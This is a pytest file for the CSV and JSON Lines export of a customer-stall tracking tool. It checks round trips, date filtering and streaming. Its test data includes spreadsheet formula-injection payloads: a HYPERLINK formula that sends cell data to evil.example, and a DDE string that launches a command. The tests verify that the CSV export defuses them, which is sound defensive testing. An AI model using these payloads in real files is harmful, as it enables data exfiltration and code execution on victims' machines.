"""`stallwatch export` (bot/export.py, bot/cli.py): accounts, stalls and audit entries stored
through the real ingest and scan, exported as CSV and JSON Lines, read back with csv/json and
compared with the database rows, value for value and type for type."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import date, datetime, timedelta, timezone

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from bot.cli import main
from bot.export import EXPORTERS, accounts_query, write
from bot.scan import scan
from storage.db import read_tx, write_tx
from storage.models import Note
from storage.stall_actions import assign, audit, resolve, snooze

from factories import ACCOUNT, AUDIT, DAY, HOUR, PROJECT, SIGNED_UP, STALL, T0, activated, group, signup, store, track

UTC = timezone.utc
NOTE = Note.__table__

# Names a spreadsheet would run as formulas, and text that breaks naive CSV and JSON writers.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
HOSTILE = 'Smith, "The Co."\nsecond line\r\nthird; Zoë 東京 🚀 \\ \u2028 \x85 \u2029 end'

# The export's columns and how the test reads each back from CSV text (text columns: as is).
KINDS = {
    "accounts": {"arr": "float", "renewal_date": "date", "signup_at": "time", "activated_at": "time",
                 "open_stalls": "int", "updated_at": "time"},
    "stalls": {"stall_id": "int", "score": "float", "opened_at": "time", "threshold_at": "time",
               "resolved_at": "time", "snoozed_until": "time", "recovery_attempts": "int", "updated_at": "time"},
    "audit": {"audit_id": "int", "at": "time", "stall_id": "int", "detail": "json"},
    "notes": {"note_id": "int", "created_at": "time", "stall_id": "int"},
}


@pytest.fixture
def cli(db_url):
    runner = CliRunner()

    def run(*args: str):
        return runner.invoke(main, list(args), env={"DATABASE_URL": db_url, "STALLWATCH_RULES": None},
                             catch_exceptions=True)

    return run


# ------------------------------------------------------------------ the company


def company(engine, rules) -> dict:
    """Accounts (hostile names included), their stalls and audit entries, made as in production:
    ingest, a scan, people acting on stalls, a later scan auto-resolving one."""
    traits = dict(domain="acme.example", plan="pro", owner_email="csm@vendor.example",
                  renewal_date=date(2026, 6, 30))
    events = signup("acme", T0, arr=48000.5, name="Acme Corp", **traits)
    for i, name in enumerate(FORMULAS):
        events += signup(f"formula-{i}", T0, arr=1000.0 * (i + 1), name=name)
    events += signup("hostile", T0, arr=12345.678, name=HOSTILE, domain="hostile.example")
    events += signup("mover", T0, arr=9000.0, name="Mover Ltd")
    events += activated("happy", T0, arr=20000.0, name="Happy Inc", plan="enterprise")
    events += [track("bare", PROJECT, T0)]  # an account known from one event: most columns NULL
    store(engine, rules, events, now=T0)
    scan(engine, rules, T0 + 3 * DAY)

    with read_tx(engine) as conn:
        ids = dict(conn.execute(select(STALL.c.account_id, STALL.c.id)).all())
    now = T0 + 3 * DAY + HOUR
    with write_tx(engine) as conn:
        assert assign(conn, ids["acme"], "U_CSM", now)
        audit(conn, now=now, actor="U_CSM", action="stall.assign", stall_id=ids["acme"], account_id="acme",
              source="slack:assign", detail={"to": "U_CSM", "note": HOSTILE, "n": 3, "ok": True, "none": None})
        assert snooze(conn, ids["hostile"], "U_CSM", T0 + 10 * DAY, now)
        assert resolve(conn, ids["formula-0"], "U_LEAD", FORMULAS[0], now)
        audit(conn, now=now, actor="U_LEAD", action="stall.resolve", stall_id=ids["formula-0"],
              account_id="formula-0", source="=cmd", detail={"resolution": FORMULAS[0]})
    # People's notes (written straight into the table: bot/stalls/notes.py's use-case is tested in
    # tests/test_notes.py): one on an account, one on a stall, one whose text a spreadsheet would run.
    with write_tx(engine) as conn:
        conn.execute(NOTE.insert(), [
            dict(account_id="acme", stall_id=None, author="U_CSM", text="Spoke to them, lands next sprint",
                 created_at=now),
            dict(account_id="hostile", stall_id=ids["hostile"], author="U_CSM", text=HOSTILE, created_at=now),
            dict(account_id="acme", stall_id=ids["acme"], author="U_LEAD", text=FORMULAS[0],
                 created_at=now + HOUR)])
    # "mover" makes progress: the next scan auto-resolves its stall (an audit entry of its own).
    store(engine, rules, [track("mover", PROJECT, T0 + 4 * DAY)], now=T0 + 4 * DAY)
    scan(engine, rules, T0 + 4 * DAY + HOUR)
    return ids


# ------------------------------------------------------------------ what the database holds


def expected_rows(engine, what: str) -> list[dict]:
    """The database's rows as the export should carry them, read here without bot/export.py."""
    with read_tx(engine) as conn:
        accounts = {r.id: r for r in conn.execute(select(ACCOUNT))}
        stalls = list(conn.execute(select(STALL).order_by(STALL.c.id)))
        audits = list(conn.execute(select(AUDIT).order_by(AUDIT.c.id)))
    if what == "accounts":
        rows = []
        for a in sorted(accounts.values(), key=lambda a: a.id):
            live = [s for s in stalls if s.account_id == a.id and s.open_key is not None]
            rows.append({
                "account_id": a.id, "name": a.name, "domain": a.domain, "plan": a.plan, "track": a.track,
                "lifecycle_status": a.status, "arr": a.arr, "owner_email": a.owner_email,
                "renewal_date": a.renewal_date, "stage": a.stage, "signup_at": a.signup_at,
                "activated_at": a.activated_at, "open_stalls": len(live),
                "top_priority": min((s.priority for s in live), default=None), "updated_at": a.updated_at,
            })
        return rows
    if what == "stalls":
        return [{
            "stall_id": s.id, "account_id": s.account_id, "account_name": accounts[s.account_id].name,
            "rule": s.rule, "step": s.step, "status": s.status, "priority": s.priority, "score": s.score,
            "opened_at": s.opened_at, "threshold_at": s.threshold_at, "resolved_at": s.resolved_at,
            "resolution": s.resolution, "resolved_by": s.resolved_by, "assignee": s.assignee,
            "snoozed_until": s.snoozed_until, "recovery_attempts": s.recovery_attempts, "updated_at": s.updated_at,
        } for s in stalls]
    if what == "notes":
        with read_tx(engine) as conn:
            notes = list(conn.execute(select(NOTE).order_by(NOTE.c.created_at, NOTE.c.id)))
        return [{"note_id": n.id, "created_at": n.created_at, "account_id": n.account_id,
                 "account_name": accounts[n.account_id].name, "stall_id": n.stall_id, "author": n.author,
                 "text": n.text} for n in notes]
    return [{"audit_id": e.id, "at": e.at, "actor": e.actor, "action": e.action, "stall_id": e.stall_id,
             "account_id": e.account_id, "source": e.source, "detail": e.detail} for e in audits]


# ------------------------------------------------------------------ reading the files back


def read_time(text: str) -> datetime:
    assert text.endswith("Z") and "T" in text, text  # ISO 8601, UTC
    return datetime.fromisoformat(text)


def from_csv(text: str, what: str) -> list[dict]:
    """The CSV's rows with each cell typed back (an empty cell: None; a defused cell keeps its quote)."""
    kinds = KINDS[what]
    readers = {"float": float, "int": int, "date": date.fromisoformat, "time": read_time, "json": json.loads}
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return [{k: None if v == "" else readers[kinds[k]](v) if k in kinds else v for k, v in row.items()} for row in rows]


def from_jsonl(text: str, what: str) -> list[dict]:
    kinds = KINDS[what]
    rows = [json.loads(line) for line in text.split("\n") if line]
    for row in rows:
        for k, kind in kinds.items():
            if kind == "time" and row[k] is not None:
                row[k] = read_time(row[k])
            elif kind == "date" and row[k] is not None:
                row[k] = date.fromisoformat(row[k])
    return rows


def as_csv_cell(value):
    """What the CSV should hold for a text value: formulas defused, NULL and '' both empty."""
    if value is None or value == "":
        return None
    if isinstance(value, str) and value[0] in "=+-@\t\r":
        return "'" + value
    return value


def export(cli, tmp_path, what: str, fmt: str, *extra: str) -> str:
    out = tmp_path / f"{what}.{fmt}"
    result = cli("export", what, "--format", fmt, "--out", str(out), *extra)
    assert result.exit_code == 0, result.output
    assert not (tmp_path / f"{what}.{fmt}.partial").exists()
    return out.read_bytes().decode("utf-8")


# ------------------------------------------------------------------ round trips


@pytest.mark.parametrize("what", list(EXPORTERS))
def test_jsonl_round_trips_every_row_with_its_types(engine, rules, cli, tmp_path, what):
    company(engine, rules)
    expected = expected_rows(engine, what)
    got = from_jsonl(export(cli, tmp_path, what, "jsonl"), what)
    assert got == expected
    assert len(got) >= 3
    for row, want in zip(got, expected):
        assert list(row) == list(want)  # the header's order
        for key, value in want.items():
            # numbers as numbers (ARR and score floats, counts ints), null as null, text as text
            assert type(row[key]) is type(value) or isinstance(value, (datetime, date)), (key, row[key], value)


@pytest.mark.parametrize("what", list(EXPORTERS))
def test_csv_round_trips_every_row(engine, rules, cli, tmp_path, what):
    company(engine, rules)
    expected = expected_rows(engine, what)
    text = export(cli, tmp_path, what, "csv")
    assert text.splitlines()[0].split(",") == list(expected[0])  # the header row
    got = from_csv(text, what)
    typed = KINDS[what]
    assert got == [{k: v if k in typed else as_csv_cell(v) for k, v in row.items()} for row in expected]


def test_the_company_has_what_the_exports_must_carry(engine, rules, cli, tmp_path):
    """The round trips above cover live and closed stalls, NULLs, snoozes and people's actions."""
    ids = company(engine, rules)
    accounts = {r["account_id"]: r for r in from_jsonl(export(cli, tmp_path, "accounts", "jsonl"), "accounts")}
    assert accounts["acme"] | {"updated_at": None} == {
        "account_id": "acme", "name": "Acme Corp", "domain": "acme.example", "plan": "pro", "track": "high_touch",
        "lifecycle_status": "trialing", "arr": 48000.5, "owner_email": "csm@vendor.example",
        "renewal_date": date(2026, 6, 30), "stage": "Onboarding", "signup_at": T0, "activated_at": None,
        "open_stalls": 1, "top_priority": accounts["acme"]["top_priority"], "updated_at": None}
    assert accounts["acme"]["top_priority"] in ("P0", "P1", "P2", "P3")
    assert (accounts["happy"]["open_stalls"], accounts["happy"]["top_priority"]) == (0, None)
    assert accounts["happy"]["activated_at"] == T0
    assert accounts["hostile"]["open_stalls"] == 1  # snoozed is still live
    # formula-0's stall was resolved by hand and reopened by the next scan (still stalled); mover's auto-resolved.
    assert (accounts["formula-0"]["open_stalls"], accounts["mover"]["open_stalls"]) == (1, 0)
    assert accounts["bare"]["domain"] is None and accounts["bare"]["renewal_date"] is None

    stalls = {r["stall_id"]: r for r in from_jsonl(export(cli, tmp_path, "stalls", "jsonl"), "stalls")}
    assert stalls[ids["acme"]]["assignee"] == "U_CSM"
    assert (stalls[ids["hostile"]]["status"], stalls[ids["hostile"]]["snoozed_until"]) == ("snoozed", T0 + 10 * DAY)
    assert (stalls[ids["formula-0"]]["status"], stalls[ids["formula-0"]]["resolved_by"]) == ("resolved", "U_LEAD")
    assert stalls[ids["mover"]]["status"] == "auto_resolved"
    assert stalls[ids["mover"]]["resolved_by"] == "system"

    entries = from_jsonl(export(cli, tmp_path, "audit", "jsonl"), "audit")
    assert [e["action"] for e in entries] == ["stall.assign", "stall.resolve", "stall.auto_resolve"]
    assert entries[0]["detail"] == {"to": "U_CSM", "note": HOSTILE, "n": 3, "ok": True, "none": None}


# ------------------------------------------------------------------ hostile text


def test_formula_names_are_defused_in_csv_and_intact_in_jsonl(engine, rules, cli, tmp_path):
    company(engine, rules)
    csv_rows = {r["account_id"]: r for r in csv.DictReader(io.StringIO(export(cli, tmp_path, "accounts", "csv"), newline=""))}
    json_rows = {r["account_id"]: r for r in from_jsonl(export(cli, tmp_path, "accounts", "jsonl"), "accounts")}
    for i, name in enumerate(FORMULAS):
        assert csv_rows[f"formula-{i}"]["name"] == "'" + name
        assert json_rows[f"formula-{i}"]["name"] == name
    # Other text columns too: a resolution, an audit source, JSON detail stays JSON.
    [stall] = [r for r in csv.DictReader(io.StringIO(export(cli, tmp_path, "stalls", "csv"), newline=""))
               if r["account_id"] == "formula-0" and r["status"] == "resolved"]
    assert (stall["account_name"], stall["resolution"]) == ("'" + FORMULAS[0], "'" + FORMULAS[0])
    [entry] = [r for r in csv.DictReader(io.StringIO(export(cli, tmp_path, "audit", "csv"), newline=""))
               if r["action"] == "stall.resolve"]
    assert entry["source"] == "'=cmd"
    assert json.loads(entry["detail"]) == {"resolution": FORMULAS[0]}
    # Numbers are not text: a CSV number cell is never prefixed.
    assert csv_rows["acme"]["arr"] == "48000.5"


def test_hostile_text_round_trips_in_both_formats(engine, rules, cli, tmp_path):
    company(engine, rules)
    for fmt, read in (("csv", from_csv), ("jsonl", from_jsonl)):
        rows = {r["account_id"]: r for r in read(export(cli, tmp_path, "accounts", fmt), "accounts")}
        assert rows["hostile"]["name"] == HOSTILE
        assert rows["hostile"]["arr"] == 12345.678
        stalls = [r for r in read(export(cli, tmp_path, "stalls", fmt), "stalls") if r["account_id"] == "hostile"]
        assert [s["account_name"] for s in stalls] == [HOSTILE]
        [assigned] = [e for e in read(export(cli, tmp_path, "audit", fmt), "audit") if e["action"] == "stall.assign"]
        assert assigned["detail"]["note"] == HOSTILE
    raw = (tmp_path / "accounts.jsonl").read_text(encoding="utf-8")
    assert len(raw.splitlines()) == len(expected_rows(engine, "accounts"))  # newlines inside values are escaped


# ------------------------------------------------------------------ --since


def test_since_filters_each_export(engine, rules, cli, tmp_path):
    company(engine, rules)  # stored at T0 (mover at +4 d); stalls opened at +3 d, acted on at +3 d 1 h,
    later = T0 + 5 * DAY    # rescored, auto-resolved and reopened at +4 d 1 h
    store(engine, rules, [group("happy", later, name="Happy Again Inc")], now=later)
    with read_tx(engine) as conn:
        accounts = list(conn.execute(select(ACCOUNT.c.id, ACCOUNT.c.updated_at)))
        stalls = list(conn.execute(select(STALL.c.id, STALL.c.account_id, STALL.c.opened_at, STALL.c.updated_at)))
        audits = list(conn.execute(select(AUDIT.c.id, AUDIT.c.at)))

    def since(what: str, value: str) -> list:
        key = {"accounts": "account_id", "stalls": "stall_id", "audit": "audit_id"}[what]
        return [r[key] for r in from_jsonl(export(cli, tmp_path, what, "jsonl", "--since", value), what)]

    cases = {"2026-01-01": T0, "2026-01-04": T0 + 3 * DAY,  # a date: midnight UTC
             "2026-01-04T00:00:01Z": T0 + 3 * DAY + timedelta(seconds=1), "2026-01-04T01:00:00Z": T0 + 3 * DAY + HOUR,
             "2026-01-04T01:00:00.000001Z": T0 + 3 * DAY + HOUR + timedelta(microseconds=1),
             "2026-01-05T01:00:00": T0 + 4 * DAY + HOUR,  # no offset: UTC
             "2026-01-05T22:00:00-02:00": T0 + 5 * DAY, "2026-02-01": T0 + 31 * DAY}
    for value, at in cases.items():
        # accounts: the row changed, or one of its stalls did (its open count or top priority may have moved)
        assert since("accounts", value) == sorted(
            a.id for a in accounts if a.updated_at >= at or any(s.account_id == a.id and s.updated_at >= at for s in stalls)), value
        assert since("stalls", value) == sorted(s.id for s in stalls if s.opened_at >= at or s.updated_at >= at), value
        assert since("audit", value) == sorted(e.id for e in audits if e.at >= at), value
    # The cases do filter: everything, then less, then only the latest change, then nothing.
    assert since("stalls", "2026-01-04") == sorted(s.id for s in stalls)
    assert 0 < len(since("stalls", "2026-01-04T01:00:00.000001Z")) < len(stalls)
    assert [e["action"] for e in from_jsonl(export(cli, tmp_path, "audit", "jsonl", "--since", "2026-01-04T01:00:00.000001Z"),
                                            "audit")] == ["stall.auto_resolve"]
    assert since("accounts", "2026-01-05T22:00:00-02:00") == ["happy"]
    assert since("stalls", "2026-02-01") == since("accounts", "2026-02-01") == since("audit", "2026-02-01") == []


@pytest.mark.parametrize("bad", ["yesterday", "2026-13-01", "01/02/2026", ""])
def test_a_bad_since_says_what_is_expected(cli, bad):
    result = cli("export", "stalls", "--since", bad)
    assert result.exit_code == 2, result.output
    assert "Invalid value for '--since'" in result.stderr
    assert "expected YYYY-MM-DD or YYYY-MM-DDTHH:MM[:SS][Z|+HH:MM]" in result.stderr
    assert result.stdout == ""


def test_unknown_export_and_format_are_usage_errors(cli):
    assert cli("export", "tickets").exit_code == 2
    assert cli("export", "stalls", "--format", "xlsx").exit_code == 2


# ------------------------------------------------------------------ stdout, summary, streaming


def test_stdout_carries_only_the_data_and_stderr_the_summary(engine, rules, cli):
    company(engine, rules)
    result = cli("export", "stalls")
    assert result.exit_code == 0, result.output
    rows = from_csv(result.stdout, "stalls")
    assert [r["stall_id"] for r in rows] == [r["stall_id"] for r in expected_rows(engine, "stalls")]
    assert f"{len(rows)} stalls written to stdout in " in result.stderr


def test_an_unmigrated_database_is_a_clear_error_and_leaves_no_file(tmp_path):
    out = tmp_path / "stalls.csv"
    result = CliRunner().invoke(main, ["export", "stalls", "--out", str(out)],
                                env={"DATABASE_URL": f"sqlite:///{tmp_path / 'empty.db'}", "STALLWATCH_RULES": None})
    assert result.exit_code == 1
    assert "cannot read the stalls from the database" in result.stderr and "stallwatch db upgrade" in result.stderr
    assert "Traceback" not in result.output
    assert not out.exists() and not (tmp_path / "stalls.csv.partial").exists()


N_BIG = 20_000


def test_a_20000_row_export_streams_in_batches(engine, rules, cli, tmp_path, monkeypatch):
    # Inserted directly: this test is about the reading side, and ingesting 20,000 accounts costs
    # about 25 s on PostgreSQL (the round trips above go through the real ingest and scan).
    with write_tx(engine) as conn:
        conn.execute(ACCOUNT.insert(), [
            {"id": f"acct-{i:05d}", "name": f"Account {i}", "name_lower": f"account {i}", "arr": float(i),
             "track": "standard", "status": "trialing", "steps": {SIGNED_UP: T0.isoformat()}, "signup_at": T0,
             "stage": "Onboarding", "steps_done": 1, "journey_version": "", "created_at": T0, "updated_at": T0}
            for i in range(N_BIG)])

    # Through the command: every row, progress on stderr (every 10,000 rows here), then the summary.
    monkeypatch.setattr("bot.cli.EXPORT_PROGRESS_ROWS", 10_000)
    out = tmp_path / "accounts.csv"
    result = cli("export", "accounts", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "… 10,000 accounts written" in result.stderr and "… 20,000 accounts written" in result.stderr
    assert f"20,000 accounts written to {out} in " in result.stderr
    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == N_BIG
    assert [r["account_id"] for r in rows[:2]] == ["acct-00000", "acct-00001"]
    assert float(rows[-1]["arr"]) == N_BIG - 1

    # Batches: the rows arrive 500 at a time, and memory stays well under what holding the
    # table would take (measured here as a fetchall of the same query).
    seen: list[int] = []
    cursors: list[int] = []
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        with read_tx(engine) as conn:
            whole = conn.execute(accounts_query(None)).fetchall()
            held = tracemalloc.get_traced_memory()[0] - before
        del whole
        tracemalloc.reset_peak()
        base = tracemalloc.get_traced_memory()[0]
        with read_tx(engine) as conn, open(tmp_path / "again.jsonl", "w", encoding="utf-8", newline="") as f:
            def progress(rows: int) -> None:
                seen.append(rows)
                if conn.dialect.name == "postgresql":  # the rows come through a server-side cursor
                    cursors.append(conn.exec_driver_sql(
                        "SELECT count(*) FROM pg_cursors WHERE statement NOT LIKE '%%pg_cursors%%'").scalar_one())

            count = write(conn, EXPORTERS["accounts"], f, fmt="jsonl", batch=500, progress=progress)
        peak = tracemalloc.get_traced_memory()[1] - base
    finally:
        tracemalloc.stop()
    assert count == N_BIG
    assert seen == list(range(500, N_BIG + 1, 500))
    assert peak < held / 4, (peak, held)
    if engine.dialect.name == "postgresql":
        assert cursors == [1] * len(seen)
